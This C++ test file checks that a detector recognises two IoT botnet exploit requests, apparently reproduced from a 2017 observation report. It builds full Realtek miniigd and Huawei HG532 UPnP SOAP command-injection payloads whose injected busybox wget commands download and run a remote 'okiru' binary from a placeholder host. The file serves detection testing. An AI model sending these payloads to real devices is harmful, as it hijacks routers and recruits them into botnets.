#include "payload/shell_command.hpp"
#include "recogniser_fixture.hpp"

// Figures 7 and 9 of NICTER's observation report 2017: on the wire as `simulate` has them, and as they are printed.
namespace nightjar::test {
namespace {

std::string figure_7(const std::string& path, const std::string& host, const std::string& end = "\r\n") {
  std::string payload;
  for (const std::string& line : {"POST " + path + " HTTP/1.1",
                                  "Host: " + host + ":52869",
                                  std::string("Connection: keep-alive"),
                                  std::string("Accept-Encoding: gzip, deflate"),
                                  std::string("Accept: */*"),
                                  std::string("User-Agent: python-requests/2.18.4"),
                                  std::string("SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"),
                                  std::string("Content-Length: 637"),
                                  std::string(),
                                  std::string("<?xml version=\"1.0\" ?>"),
                                  std::string("<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\""),
                                  std::string("s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">"),
                                  std::string("<s:Body>"),
                                  std::string("<u:AddPortMapping"),
                                  std::string("xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">"),
                                  std::string("<NewRemoteHost></NewRemoteHost>"),
                                  std::string("<NewExternalPort>47450</NewExternalPort>"),
                                  std::string("<NewProtocol>TCP</NewProtocol>"),
                                  std::string("<NewInternalPort>44382</NewInternalPort>"),
                                  std::string("<NewInternalClient>"),
                                  "`cd /tmp/;/bin/busybox wget http://" + host + "/okiru.sh`",
                                  std::string("</NewInternalClient>"),
                                  std::string("<NewEnabled>1</NewEnabled>"),
                                  std::string("<NewPortMappingDescription>syncthing</NewPortMappingDescription>"),
                                  std::string("<NewLeaseDuration>0</NewLeaseDuration>"),
                                  std::string("</u:AddPortMapping>"),
                                  std::string("</s:Body>"),
                                  std::string("</s:Envelope>")})
    payload += line + end;
  return payload;
}

/// As printed: the body alone.
std::string figure_9(const std::string& host) {
  return "<?xml.version=\"1.0\" ?>\n<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"\n"
         "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">\n<s:Body>\n"
         "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">\n<NewStatusURL>\n"
         "$(busybox wget -g " +
         host +
         " -l /tmp/rsh -r /okiru.mips; \nchmod +x /tmp/rsh; /tmp/rsh)\n\n</NewStatusURL>\n"
         "<NewDownoadURL>$(echo HUAWEIUPNP)</NewDownloadURL>\n</u:Upgrade>\n</s:Body>\n</s:Envelope>\n";
}
std::string with_request_line(const std::string& path, const std::string& body) {
  return "POST " + path + " HTTP/1.1\r\nHost: 198.51.100.7:37215\r\nContent-Length: 430\r\nConnection: keep-alive\r\nAccept: */*\r\n\r\n" +
         body;
}

const std::vector<std::string> kHosts = {"***.***.***.***", "203.0.113.9", "x", "2001:db8::1"};

TEST(Figures, SevenIsRealtekWhateverItsHostPathOrEndsOfLines) {
  for (const std::string& host : kHosts) {
    for (const char* path : {"/picsdesc.xml", "/picdesc.xml", "/wanipcn.xml", "/another"}) {
      for (const char* end : {"\r\n", "\n"})
        EXPECT_EQ(tags_of(figure_7(path, host, end), 52'869), (Ids{"realtek-miniigd", "soap-command-injection"})) << host << path;
    }
  }
}

TEST(Figures, SevenIsTaggedFromTheFirstByteThatShowsIt) {
  for (const std::string& host : kHosts) {
    const std::string payload = figure_7("/picsdesc.xml", host);
    const auto came = growing_tags(payload);
    ASSERT_EQ(came.size(), 2U);
    // The metacharacter in the element, then the command behind it.
    EXPECT_EQ(came[0], std::pair(std::string("realtek-miniigd"), payload.find('`') + 1));
    EXPECT_EQ(came[1].first, "soap-command-injection");
    EXPECT_LE(came[1].second, payload.find("`cd /") + 5);
  }
}

TEST(Figures, SevenAsItIsPrintedWithoutABlankLine) {
  std::string printed = figure_7("/picsdesc.xml", "***.***.***.***", "\n");
  printed.erase(printed.find("\n\n"), 1);
  const std::size_t action = printed.find("SOAPAction: ");
  printed.replace(action, 12, "SOAPAction:\n");
  const Recognition recognition = recognised(printed, 52'869);
  EXPECT_EQ(ids_of(recognition), (Ids{"realtek-miniigd", "soap-command-injection"}));
  ASSERT_EQ(recognition.injections.size(), 1U);
  EXPECT_EQ(recognition.injections[0].action, "AddPortMapping");
  EXPECT_EQ(recognition.injections[0].field, "NewInternalClient");
  EXPECT_EQ(recognition.injections[0].command, "cd /tmp/;/bin/busybox wget http://***.***.***.***/okiru.sh");
  EXPECT_TRUE(recognition.injections[0].known);
}

TEST(Figures, NineIsHuaweiWithItsMisspellings) {
  for (const std::string& host : kHosts) {
    for (const std::string& payload :
         {figure_9(host), with_request_line("/ctrlt/DeviceUpgrade_1", figure_9(host)), with_request_line("/unknown", figure_9(host))}) {
      const Recognition recognition = recognised(payload, 37'215);
      EXPECT_EQ(ids_of(recognition), (Ids{"huawei-hg532", "soap-command-injection"})) << payload;
      ASSERT_EQ(recognition.injections.size(), 2U);
      EXPECT_EQ(recognition.injections[0].action, "Upgrade");
      EXPECT_EQ(recognition.injections[0].field, "NewStatusURL");
      EXPECT_EQ(recognition.injections[0].command,
                "busybox wget -g " + host + " -l /tmp/rsh -r /okiru.mips; \nchmod +x /tmp/rsh; /tmp/rsh");
      EXPECT_EQ(recognition.injections[1].field, "NewDownoadURL");
      EXPECT_EQ(recognition.injections[1].command, "echo HUAWEIUPNP");
      EXPECT_TRUE(recognition.injections[0].known && recognition.injections[1].known);
    }
  }
}

TEST(Figures, NineIsTaggedFromTheFirstByteThatShowsIt) {
  for (const std::string& payload : {figure_9("203.0.113.9"), with_request_line("/x", figure_9("***.***.***.***"))}) {
    const auto came = growing_tags(payload);
    ASSERT_EQ(came.size(), 2U);
    EXPECT_EQ(came[0], std::pair(std::string("huawei-hg532"), payload.find("$(") + 2));
    EXPECT_EQ(came[1], std::pair(std::string("soap-command-injection"), payload.find("$(busybox") + 9));
  }
}

}  // namespace
}  // namespace nightjar::test
